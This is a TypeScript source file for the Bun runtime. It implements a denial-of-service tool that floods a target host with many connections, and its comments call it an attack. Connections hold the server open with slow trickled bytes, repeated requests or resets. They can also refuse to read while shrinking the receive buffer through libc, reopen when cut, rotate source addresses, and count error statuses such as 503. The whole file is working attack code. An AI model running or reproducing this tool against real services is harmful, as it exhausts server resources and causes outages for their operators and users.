import type { Socket } from "bun";
import { dlopen, FFIType } from "bun:ffi";

// Many connections that all behave alike, badly, and as cheaply as possible for the one who makes them.

export interface Behaviour {
  /**
   * What the n-th connection sends, piece after piece, as fast as the server takes it; possibly without an end. It is
   * asked again after each answer, where it waits for answers.
   */
  says(n: number): Iterable<Uint8Array>;
  /**
   * What it does when all is said: keep the connection and be silent, send one more byte every second, wait for an
   * answer and start over, close, close its sending side only, or reset the connection.
   */
  afterwards: "hold" | "trickle" | "repeat" | "close" | "half-close" | "reset";
  /** Never read anything; with a number, and let the server send only so many bytes ahead. */
  deaf?: true | { windowBytes: number };
  /** Take another connection in the place of one that the server ended. */
  reopens?: boolean;
  /** Speak TLS. */
  tls?: boolean;
}

interface Aim {
  host: string;
  port: number;
  /** Local addresses, used in turn. */
  from: readonly string[];
  connections: number;
}

/** What became of it, by word: opened, cut, refused, `status 503`, … */
export type Tally = Record<string, number>;

const trickleMs = 1_000;
const reconnectMs = 100;
/** So much is written in one go before other connections have their turn. */
const turnBytes = 1024 * 1024;
/** So many connection attempts are under way at the same time. */
const attemptsAtOnce = 256;

interface Connection {
  n: number;
  script: Iterator<Uint8Array>;
  /** What of the script the socket did not take yet. */
  rest: Uint8Array | null;
  said: boolean;
  /** Bytes of the present answer that are still to come; null while its head is incomplete. */
  missing: number | null;
  head: string;
}

/** Attack until the process ends. What is counted is in `tally`. */
export function attack(behaviour: Behaviour, aim: Aim, tally: Tally): void {
  const trickling = new Set<Socket<Connection>>();
  let serial = 0;
  let attempts = 0;
  const waiting: (() => void)[] = [];

  const count = (what: string) => void (tally[what] = (tally[what] ?? 0) + 1);

  async function open(place: number): Promise<void> {
    if (attempts >= attemptsAtOnce) await new Promise<void>((resolve) => waiting.push(resolve));
    attempts++;
    try {
      await Bun.connect<Connection>({
        hostname: aim.host,
        port: aim.port,
        // Known to Bun, not to its types.
        ...({ localAddress: aim.from[place % aim.from.length] } as object),
        allowHalfOpen: behaviour.afterwards === "half-close",
        ...(behaviour.tls && { tls: { rejectUnauthorized: false } }),
        data: { n: 0, script: [][Symbol.iterator](), rest: null, said: false, missing: null, head: "" },
        socket: {
          open: (socket) => {
            count("opened");
            if (behaviour.deaf) {
              if (behaviour.deaf !== true) limitWindow(socket, behaviour.deaf.windowBytes);
              socket.pause();
            }
            if (!behaviour.tls) speak(socket);
          },
          handshake: speak,
          drain: goOn,
          data: (socket, chunk) => void (behaviour.deaf || hear(socket, chunk)),
          end: (socket) => void socket.end(),
          error: () => {},
          close: (socket) => {
            trickling.delete(socket);
            if (!socket.data.said || behaviour.afterwards === "hold" || behaviour.afterwards === "trickle") count("cut");
            const mine = socket.data.said && (behaviour.afterwards === "close" || behaviour.afterwards === "reset");
            if (mine || behaviour.reopens) setImmediate(() => void open(place));
          },
        },
      });
    } catch {
      count("refused");
      setTimeout(() => void open(place), reconnectMs);
    } finally {
      attempts--;
      waiting.shift()?.();
    }
  }

  function speak(socket: Socket<Connection>): void {
    socket.data.n = serial++;
    socket.data.script = behaviour.says(socket.data.n)[Symbol.iterator]();
    socket.data.said = false;
    goOn(socket);
  }

  function goOn(socket: Socket<Connection>): void {
    const { data } = socket;
    if (data.said) return;
    for (let sent = 0; sent < turnBytes;) {
      if (data.rest === null) {
        const next = data.script.next();
        if (next.done) return end(socket);
        data.rest = next.value;
      }
      const written = socket.write(data.rest);
      if (written < 0) return;
      sent += written;
      if (written < data.rest.byteLength) return void (data.rest = data.rest.subarray(written));
      data.rest = null;
    }
    setImmediate(goOn, socket);
  }

  function end(socket: Socket<Connection>): void {
    socket.data.said = true;
    if (behaviour.afterwards === "close") socket.end();
    else if (behaviour.afterwards === "reset") socket.terminate();
    else if (behaviour.afterwards === "half-close") socket.shutdown();
    else if (behaviour.afterwards === "trickle") trickling.add(socket);
  }

  function hear(socket: Socket<Connection>, chunk: Buffer): void {
    const { data } = socket;
    for (let at = 0; at < chunk.byteLength;) {
      if (data.missing === null) {
        const before = data.head.length;
        data.head += chunk.toString("latin1", at);
        const headEnd = data.head.indexOf("\r\n\r\n");
        if (headEnd === -1) return;
        at += headEnd + 4 - before;
        count(`status ${data.head.slice(9, 12)}`);
        data.missing = Number(/\r\ncontent-length: *(\d+)/i.exec(data.head)?.[1] ?? 0);
        data.head = "";
      }
      const taken = Math.min(data.missing, chunk.byteLength - at);
      at += taken;
      data.missing -= taken;
      if (data.missing > 0) return;
      data.missing = null;
      if (behaviour.afterwards === "repeat" && data.said) speak(socket);
    }
  }

  for (let place = 0; place < aim.connections; place++) void open(place);
  if (behaviour.afterwards === "trickle") setInterval(() => trickling.forEach((socket) => void socket.write("a")), trickleMs);
}

/** The kernel keeps so little of what the server sends until somebody reads it. */
function limitWindow(socket: Socket<Connection>, bytes: number): void {
  const [solSocket, soRcvbuf] = [1, 8];
  const { fd } = socket as unknown as { fd: number };
  libc().setsockopt(fd, solSocket, soRcvbuf, new Int32Array([bytes]), Int32Array.BYTES_PER_ELEMENT);
}

const openLibc = () =>
  dlopen("libc.so.6", {
    setsockopt: { args: [FFIType.i32, FFIType.i32, FFIType.i32, FFIType.ptr, FFIType.u32], returns: FFIType.i32 },
  }).symbols;
let opened: ReturnType<typeof openLibc> | null = null;
const libc = () => (opened ??= openLibc());
